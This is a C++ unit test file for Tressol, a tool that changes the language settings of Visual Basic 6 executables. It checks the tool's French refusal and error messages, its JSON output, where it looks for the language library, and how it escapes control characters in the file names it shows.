    EXPECT_EQ(tressol::Run(c.tail, files, output), c.status) << c.tail << output.err;
    EXPECT_TRUE(Contains(output.out, c.says)) << c.tail << "\n" << output.out;
    for (const auto& [name, target] : files.targets) EXPECT_EQ(target.writes, 0) << name;
  }
}

TEST(TressolFolder, NothingToDoIsARefusal) {
  MemoryFileSystem files = ApplicationFolder();
  files.targets.erase("app/a.exe");
  files.targets.erase("app/b.ocx");
  files.targets.erase("app/b2.exe");
  files.targets.erase("app/e.exe");
  files.targets.erase("app/d.exe");
  files.targets.erase("app/g.exe");
  for (const char* tail : {" \"app/\" * 0x409 ~ 0x0", " vide/"}) {
    Output output;
    EXPECT_EQ(tressol::Run(tail, files, output), 3) << tail;
    EXPECT_FALSE(output.err.empty()) << tail;
  }
}

// What a file's bytes show, each worded once.
TEST(ReasonOf, WordsEachVerdict) {
  const std::string recopy = " ; recopiez-le depuis l'original";
  struct Case {
    Verdict verdict;
    std::string detail;
    std::string words;
  };
  const Case cases[] = {
      {Verdict::TooShort, "", "trop court pour une image PE"},
      {Verdict::NoMzSignature, "", "pas un programme Windows (signature MZ absente)"},
      {Verdict::NoPeSignature, "", "programme DOS ou 16 bits (signature PE absente)"},
      {Verdict::DosProgram, "", "programme DOS (sans en-tête PE)"},
      {Verdict::Pe64, "", "image PE32+ (64 bits), que Visual Basic 6 ne produit pas"},
      {Verdict::NotI386, "",
       "image non i386 (64 bits ou autre processeur), que Visual Basic 6 ne produit pas"},
      {Verdict::NoHeaderOutsideFile, "",
       "aucun en-tête VB là où son code en désignerait un (hors du fichier)"},
      {Verdict::NoHeaderWhereCodeSays, "", "aucun en-tête VB là où son code en désignerait un"},
      {Verdict::NoVbSignature, "", "aucun en-tête VB (« VB5! »)"},
      {Verdict::PackedWithoutRuntime, "",
       "compressé (UPX ou autre), sans le moteur d'exécution VB"},
      {Verdict::UnreadableImports, "",
       "sa table d'importations ne peut pas être lue (hors du fichier), et sans elle rien ne "
       "dit s'il s'agit d'un fichier VB6" +
           recopy},
      {Verdict::TruncatedBeforePe, "",
       "le fichier est tronqué (il s'arrête avant son en-tête PE)" + recopy},
      {Verdict::SectionPastEnd, ".text",
       "le fichier est tronqué (la section « .text » dépasse la fin du fichier)" + recopy},
      {Verdict::MalformedPe, "", "son image PE est mal formée (sections ou en-tête optionnel)"},
      {Verdict::FieldPastEnd, "",
       "le fichier est tronqué (un champ dépasse la fin des données lues)" + recopy},
      {Verdict::TruncatedStructures, "",
       "le fichier est tronqué (il s'arrête avant la fin de ses structures)" + recopy},
      {Verdict::InvalidHeader, "", "l'en-tête VB que désigne son code n'est pas valide"},
      {Verdict::SearchTooLong, "",
       "ni son point d'entrée ni ses exportations ne désignent d'en-tête VB, et ses "
       "sections dépassent 256 Mio : la recherche de l'en-tête s'arrête là"},
      {Verdict::SeveralHeaders, "",
       "il contient plusieurs en-têtes VB possibles, et Tressol n'en choisit aucun au hasard"},
      {Verdict::ExportsDisagree, "",
       "ses fonctions exportées désignent des en-têtes VB différents"},
      {Verdict::PackedWithRuntime, "",
       "il est compressé (UPX ou autre) : son en-tête VB ne peut pas être lu ; utilisez la "
       "version non compressée"},
      {Verdict::SignatureDamaged, "PE",
       "il utilise le moteur d'exécution VB, mais sa signature PE est endommagée" + recopy},
      {Verdict::PeHeaderElsewhere, "",
       "il utilise le moteur d'exécution VB, mais son en-tête PE n'est pas là où l'en-tête MZ le "
       "désigne : il est sans doute endommagé" +
           recopy},
      {Verdict::PastFourGiB, "",
       "il dépasse 4 Gio, et la somme de contrôle d'une image PE32 ne couvre pas un fichier "
       "aussi grand"},
      {Verdict::CertificatesOutside, "",
       "la table de certificats de sa signature dépasse la fin du fichier (image mal formée)"},
      {Verdict::ChecksumUncomputable, "", "sa somme de contrôle PE ne peut pas être calculée"},
      {Verdict::ReadBackDiffers, "", "les octets relus ne sont pas ceux qui ont été écrits"},
      {Verdict::WriteFailed, "disque plein",
       "disque plein ; le fichier a été remis dans son état d'origine"},
      {Verdict::WriteFailedNotRestored, "disque plein",
       "disque plein ; le fichier n'a pas pu être remis dans son état d'origine : "
       "remplacez-le par une copie de sauvegarde"},
      {Verdict::AnotherFileNow, "",
       "un autre fichier porte désormais ce nom ; il est laissé tel quel"},
      {Verdict::SizeChanged, "",
       "sa taille a changé depuis la modification ; il est laissé tel quel"},
      {Verdict::ChangedSince, "0x4A0",
       "il a été modifié depuis (octets à la position 0x4A0) ; il est laissé tel quel"},
      {Verdict::MixedBytes, "",
       "ses octets mêlent l'avant et l'après de la modification ; il est laissé tel quel"},
      {Verdict::ContentChanged, "",
       "son contenu a changé depuis la modification ; il est laissé tel quel"},
      {Verdict::JournalOfAnotherVersion, "",
       "ce journal est d'une autre version de Tressol, que celle-ci ne lit pas"},
      {Verdict::NotAJournal, "", "ce fichier n'est pas un journal de Tressol"},
      {Verdict::NoVb6File, "", "aucun des fichiers n'est un fichier VB6"},
      {Verdict::JournalExists, "j.txt",
       "le journal demandé, « j.txt », existe déjà ; aucun fichier n'a été modifié"},
      {Verdict::TargetMissing, "a\nb.exe",
       "« a<U+000A>b.exe » n'existe pas ; vérifiez le chemin. Aucun fichier n'a été modifié"},
      {Verdict::MeantTargetMissing, "Setup.exe vb6FR.dll 0x40C * 0x409",
       "sans guillemets, toute la ligne est lue comme un seul nom de fichier, « Setup.exe "
       "vb6FR.dll 0x40C * 0x409 », et aucun fichier ne porte ce nom"},
      {Verdict::NoPatternMatch, "*.ocx", "aucun fichier ne correspond au motif « *.ocx »"},
      {Verdict::PatternFolderMissing, "C:\\absent", "le dossier « C:\\absent » n'existe pas"},
      {Verdict::NoTargetInFolder, "vide",
       "le dossier « vide » ne contient aucun fichier .exe, .dll ou .ocx"},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(Unmarked(ReasonOf(VerdictError(Failure::Refused, c.verdict, c.detail))), c.words);
  }
  EXPECT_EQ(
      ReasonOf(VerdictError(Failure::Refused, Verdict::RuntimeWithoutHeader, {},
                            Verdict::NoVbSignature)),
      "il utilise le moteur d'exécution VB, mais il ne contient aucun en-tête VB (« VB5! ») : il "
      "est sans doute endommagé" +
          recopy);
  EXPECT_EQ(ReasonOf(VerdictError(Failure::Refused, Verdict::RuntimeWithoutHeader, {},
                                  Verdict::NoHeaderWhereCodeSays)),
            "il utilise le moteur d'exécution VB, mais l'en-tête VB que désigne son code est "
            "absent : il est sans doute endommagé" +
                recopy);
}

// With --json, the tool says everything as JSON lines, each saying what it is: nothing on
// standard error, a mistake or a refusal a message with its status, several files a summary.
// The front ends throw facts; the report words each failed step once, with the system's
// words where it has some.
TEST(ReasonOf, WordsEachFailedStep) {
  struct Case {
    IoStep step;
    const char* system;
    const char* words;
  };
  const Case cases[] = {
      {IoStep::Size, "E", "sa taille ne peut pas être lue (E)"},
      {IoStep::Read, "E", "lecture impossible (E)"},
      {IoStep::ReadShort, "", "lecture impossible (le fichier s'arrête plus tôt que prévu)"},
      {IoStep::Write, "E", "écriture impossible (E)"},
      {IoStep::WriteShort, "", "écriture incomplète"},
      {IoStep::Flush, "E", "enregistrement sur le disque impossible (E)"},
      {IoStep::Attributes, "E", "ses attributs ne peuvent pas être lus (E)"},
      {IoStep::ListFolder, "E", "le dossier « d\x1b » ne peut pas être lu (E)"},
      {IoStep::ListFolderWhole, "E", "le dossier « d\x1b » n'a pas pu être lu jusqu'au bout (E)"},
      {IoStep::FolderReplaced, "",
       "le dossier « d\x1b » a été remplacé pendant l'opération (ce "
       "n'est plus celui que la liste de son dossier parent a donné) ; aucun de ses fichiers n'a "
       "été touché"},
      {IoStep::OpenJournal, "E", "le journal « d\x1b » ne peut pas être ouvert (E)"},
      {IoStep::JournalBusy, "",
       "le journal « d\x1b » est en cours d'utilisation par une autre exécution"},
      {IoStep::WriteJournal, "", "écriture impossible dans « d\x1b » (disque plein)"},
      {IoStep::WriteJournal, "E", "écriture impossible dans « d\x1b » (E)"},
      {IoStep::ReadJournal, "E", "lecture du journal « d\x1b » impossible (E)"},
  };
  for (const Case& c : cases) {
    const StepError error(c.step, c.system, "d\x1b");
    std::string expected = c.words;
    const std::size_t escape = expected.find('\x1b');
    if (escape != std::string::npos) expected.replace(escape, 1, "<U+001B>");  // shown, not run
    EXPECT_EQ(Unmarked(ReasonOf(error)), expected);
    EXPECT_EQ(error.Kind(), c.step == IoStep::JournalBusy ? Failure::Refused : Failure::Io);
  }
  EXPECT_EQ(ReasonOf(FileError(FileFailure::NotRegular, false, {}, Aside::Socket)),
            "ce n'est pas un fichier ordinaire (socket)");
}

TEST(TressolJson, EveryLineSaysWhatItIsAndNothingIsProse) {
  struct Case {
    const char* tail;
    int status;
    const char* last;  // the start of the last line
    const char* also;  // and what the lines hold further on
    bool journal;      // whether the run can write its journal
  };
  const Case cases[] = {
      {" --json --inconnue app/", 2,
       "{\"line\":\"message\",\"status\":2,\"kind\":\"usage\",\"words\":\"L'option « --inconnue » "
       "n'existe pas.",
       "", false},
      {" --set * 0x409 --json app/", 2, "{\"line\":\"message\",\"status\":2,", "", false},
      // Where the window's line has fewer words, the message gives them.
      {" --json absent/", 3,
       "{\"line\":\"message\",\"status\":3,\"kind\":\"refused\",\"words\":\"le dossier",
       "\"short\":\"aucun fichier .exe, .dll ou .ocx\"}", false},
      // A folder that is not there is as absent as a file: status 4, as the help says.
      {" --json absent/*.exe", 4,
       "{\"line\":\"message\",\"status\":4,\"kind\":\"io\",\"words\":\"le dossier « absent » "
       "n'existe pas\"",
       "\"short\":\"son dossier n'existe pas\"}", false},
      {" --json app/*.zzz", 3,
       "{\"line\":\"message\",\"status\":3,\"kind\":\"refused\",\"words\":\"aucun fichier ne "
       "correspond au motif",
       "\"short\":\"aucun fichier ne correspond au motif\"}", false},
      {" --json app/d.exe", 3, "{\"line\":\"message\",\"status\":3,",
       "\"short\":\"endommagé ; recopiez-le depuis l'original\"}", false},
      {" --json app/c.dll", 3,
       "{\"line\":\"message\",\"status\":3,\"kind\":\"refused\",\"words\":\"« app/c.dll » n'est "
       "pas un fichier VB6",
       "", false},
      // A reason's name beside its words, for programs.
      {" --json \"app/c.dll\" \"app/f.exe\"", 3, "{\"line\":\"message\",\"status\":3,",
       "\"reason\":\"aucun en-tête VB (« VB5! »)\",\"reasonKind\":\"no-vb-signature\"", false},
      // Nothing to do is refused after the summary, which says why in the window's words.
      {" --json \"app/c.dll\" \"app/f.exe\"", 3, "{\"line\":\"message\",\"status\":3,",
       "\"short\":\"2 non VB6\"}", false},
      // A journal that is not there, told apart from other refusals.
      {" --json --dry-run --undo absent.txt", 4,
       "{\"line\":\"message\",\"status\":4,\"kind\":\"journal-missing\",",
       "\"reasonKind\":\"journal-missing\"", false},
      {" --json --version", 0,
       "{\"line\":\"message\",\"status\":0,\"kind\":\"note\",\"words\":\"Tressol ", "", false},
      {" --json --no-journal --set vb6FR.dll 0x40C * 0x409 app/", 4,
       "{\"line\":\"summary\",\"mode\":\"set\",\"files\":8,\"vb6Files\":3,\"changedFiles\":2,",
       "\"journal\":null,\"undoExact\":false,", false},
      // A journal that cannot be made stops the run before its first change.
      {" --json --set vb6FR.dll 0x40C * 0x409 app/", 4,
       "{\"line\":\"summary\",\"mode\":\"set\",\"files\":8,\"vb6Files\":0,\"changedFiles\":0,",
       "\"done\":\"not-reached\"", false},
      // A hint follows the failure's sentence, never glued to it.
      {" --json missing.exe vb6FR.dll 0x40C * 0x409", 4, "{\"line\":\"message\",",
       "ne porte ce nom. Pour modifier « missing.exe »", false},
      // Every change in the journal, each given back byte for byte by its undo.
      {" --json --set vb6FR.dll 0x40C * 0x409 app/", 4, "{\"line\":\"summary\",\"mode\":\"set\",",
       "\"undoExact\":true,\"words\":\"Résumé : 2 fichiers modifiés, 1 déjà réglé,", true},
  };
  for (const Case& c : cases) {
    MemoryFileSystem files = ApplicationFolder();
    if (c.journal) files.journalRoom = 1 << 20;
    Output output;
    EXPECT_EQ(tressol::Run(c.tail, files, output), c.status) << c.tail;
    EXPECT_EQ(output.err, "") << c.tail;
    ASSERT_FALSE(output.out.empty()) << c.tail;
    std::size_t start = 0;
    std::string last;
    while (start < output.out.size()) {
      const std::size_t end = output.out.find('\n', start);
      last = output.out.substr(start, end - start);
      EXPECT_TRUE(last.rfind("{\"line\":\"", 0) == 0 && last.back() == '}') << c.tail << last;
      start = end + 1;
    }
    EXPECT_EQ(last.rfind(c.last, 0), 0u) << c.tail << "\n" << output.out;
    EXPECT_TRUE(Contains(output.out, c.also)) << c.tail << "\n" << output.out;
    EXPECT_FALSE(ShowsMarks(output.out)) << c.tail;
  }
}

// The French library shipped beside the programs is said once: as the library found, not
// again among the files that are not VB6.
TEST(TressolLibrary, AFoundLibraryOfTheFolderIsNamedOnce) {
  MemoryFileSystem files = ApplicationFolder();
  files.libraryFolders = {{"app", FileSystem::FolderKind::Application}};
  files.libraryFiles.insert("app/vb6FR.dll");
  // A DLL of the runtime's, not a VB6 one.
  SyntheticPe dll;
  dll.dll = true;
  dll.header = dll.codeNamesHeader = dll.importsRuntime = false;
  files.targets["app/vb6FR.dll"].bytes = dll.Build();
  Output output;
  tressol::Run(" app/", files, output);
  ASSERT_TRUE(Contains(output.out, "Résumé : 4 fichiers VB6, 3 non VB6")) << output.out;
  EXPECT_TRUE(Contains(output.out, "Bibliothèque de langue « vb6FR.dll » : présente dans « app »."))
      << output.out;
  EXPECT_FALSE(Contains(output.out, "Bibliothèque de langue VB6 en français")) << output.out;
}

TEST(TressolLibrary, IsLookedForWhereTheRuntimeLooks) {
  // What the file of the library's name holds, where there is one.
  enum class Content { Unread, Dll, Exe, Empty };
  struct Case {
    const char* settings;
    const char* present;  // "folder/name", or nothing
    const char* says;
    Content content = Content::Unread;
    const char* target = "app/a.exe";
  };
  const Case cases[] = {
      {" * 0x409 ~ 0x0", nullptr, nullptr},
      {" vb6FR.dll 0x40C * 0x409", "C:/Windows/SysWOW64/vb6FR.dll",
       "Bibliothèque de langue « vb6FR.dll » : présente dans « C:/Windows/SysWOW64 ».\n"},
      {" vb6FR.dll 0x40C * 0x409", "app/vb6FR.dll",
       "Bibliothèque de langue « vb6FR.dll » : présente dans « app ».\n", Content::Dll},
      // A file of that name is not enough: the runtime cannot load an empty one, and a
      // program named as a library is most often a "*" that a shell replaced.
      {" vb6FR.dll 0x40C * 0x409", "app/vb6FR.dll",
       "Attention : « vb6FR.dll » dans « app » n'est pas une bibliothèque de langue",
       Content::Empty},
      {" b.exe 0x409 ~ 0x0", "app/b.exe", "Attention : « b.exe » dans « app » est un programme",
       Content::Exe},
      // English where it is missing, as the settings mean: nothing to copy.
      {" vb6FR.dll 0x40C * 0x409", nullptr,
       "Bibliothèque de langue « vb6FR.dll » : absente de ce système, cas prévu par ces réglages "
       "; cherchée dans « app », dossier du programme ; « C:/Windows/SysWOW64 », "
       "dossier système 32 bits ; « C:/Windows », dossier de Windows.\n"},
      {" vb6FR.dll 0x40C ~ 0x409", nullptr,
       "Attention : la bibliothèque de langue « vb6FR.dll » est introuvable ; cherchée dans « app "
       "», dossier du programme ; « C:/Windows/SysWOW64 », dossier système 32 bits ; « "
       "C:/Windows », dossier de Windows. À faire : copiez-la à côté du programme, sur chaque "
       "ordinateur où l'application s'exécute.\n"},
      // A library's folder is the program's, which loads it; a target's own is said as such.
      {" vb6FR.dll 0x40C ~ 0x409", nullptr, "cherchée dans « app », dossier du fichier ;",
       Content::Unread, "app/a.ocx"},
      // What the messages are without it, the effect says.
      {" vb6FR.dll 0x40C ~ 0x409", nullptr,
       "Après : messages en français (aucun message sans vb6FR.dll).\n"},
  };
  for (const Case& c : cases) {
    MemoryFileSystem files;
    files.journalRoom = 1 << 20;
    files.targets[c.target].bytes = SyntheticPe{}.Build();
    using Kind = FileSystem::FolderKind;
    files.libraryFolders = {{"app", Kind::Application},
                            {"C:/Windows/SysWOW64", Kind::System32},
                            {"C:/Windows", Kind::Windows}};
    if (c.present) files.libraryFiles.insert(c.present);
    SyntheticPe dll;
    dll.dll = true;
    if (c.content == Content::Dll) files.targets[c.present].bytes = dll.Build();
    if (c.content == Content::Exe) files.targets[c.present].bytes = SyntheticPe{}.Build();
    if (c.content == Content::Empty) files.targets[c.present].bytes.clear();
    Output output;
    ASSERT_EQ(tressol::Run(" \"" + std::string(c.target) + "\"" + c.settings, files, output), 0)
        << output.err;
    if (c.says) {
      EXPECT_TRUE(Contains(output.out, c.says)) << output.out;
      // Advice only where the messages need it.
      if (std::string(c.says).find("prévoient") != std::string::npos) {
        EXPECT_FALSE(Contains(output.out, "À faire")) << output.out;
      }
    } else {
      EXPECT_FALSE(Contains(output.out, "vb6FR.dll")) << output.out;
    }
  }
}

TEST(TressolUsage, MistakesSayWhatToWriteAndChangeNothing) {
  struct Case {
    const char* tail;
    int status;
    const char* says;
  };
  const Case cases[] = {
      // An empty box in Linguarde: no file, and what to do.
      {"  ", 2, "Aucun fichier indiqué : dans Linguarde, choisissez-en un"},
      {" \"\" * 0x409 ~ 0x0", 2, "Aucun fichier indiqué :"},
      // As PowerShell or Python pass an unquoted target: one path that names nothing.
      {" cible.exe * 0x409 ~ 0x0", 4,
       "ou écrivez : \"C:\\Outils\\Tressol.exe\" --set * 0x409 ~ 0x0 \"cible.exe\"\n"},
      // A character that acts on the text around it is shown escaped there too.
      {" ci\x03"
       "ble\xE2\x80\xAE.exe * 0x409 ~ 0x0",
       4,
       "ou écrivez : \"C:\\Outils\\Tressol.exe\" --set * 0x409 ~ 0x0 "
       "\"ci<U+0003>ble<U+202E>.exe\"\n"},
      {" --set * 0x409 C:\\Users\\moi 0x0 cible.exe", 2, "écrivez '*' et '~' entre apostrophes"},
      {" -cible.exe", 2, ".\\-cible.exe"},
      // The value that is wrong and its rule, then one line to the usage.
      {" \"cible.exe\" * 0x409 ~ 0x12345678", 2,
       "« 0x12345678 » n'est pas une langue (LCID) : 0x suivi de chiffres hexadécimaux, de 0x0 à "
       "0xFFFFF.\n"
       "Aide : Tressol.exe --help\n"},
      // Help and version as a command-line user expects them.
      {" --help", 0, "Utilisation :"},
      {" -h", 0, "Utilisation :"},
      {" /?", 0, "Utilisation :"},
      {" --version", 0, "Tressol 1."},
  };
  for (const Case& c : cases) {
    const Result result = RunOn(SyntheticPe{}.Build(), c.tail);
    EXPECT_EQ(result.status, c.status) << c.tail;
    EXPECT_TRUE(Contains(result.output.out + result.output.err, c.says))
        << c.tail << result.output.err;
    EXPECT_EQ(result.target.writes, 0) << c.tail;
  }
}

}  // namespace
}  // namespace tressol::test
